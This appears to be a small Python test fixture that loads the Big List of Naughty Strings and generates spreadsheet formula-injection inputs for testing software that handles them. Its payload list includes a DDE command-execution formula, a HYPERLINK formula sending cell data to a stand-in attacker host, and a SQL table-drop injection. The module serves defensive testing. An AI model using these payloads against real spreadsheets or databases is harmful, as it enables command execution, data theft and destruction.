"""Strings that break programs: the Big List of Naughty Strings (Max Woolf, MIT licence), and those that run in a sheet.

The list stands beside this file in ASCII, so that no editor and no diff trips over it.
"""

import json
from pathlib import Path

LISTED: list[str] = json.loads((Path(__file__).parent / "naughty_strings.json").read_text("ascii"))
STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")
RUNS = (
    "cmd|' /C calc'!A0", "1+1", 'HYPERLINK("https://evil.example?"&A1,"see")', "SUM(A1:A9)", "33123456789", "", "\x01x",
    '"; drop table leads; --', "a,b;c",
)  # fmt: skip
FORMULAS = [start + rest for start in STARTS for rest in RUNS]
NAUGHTY = [*LISTED, *FORMULAS]
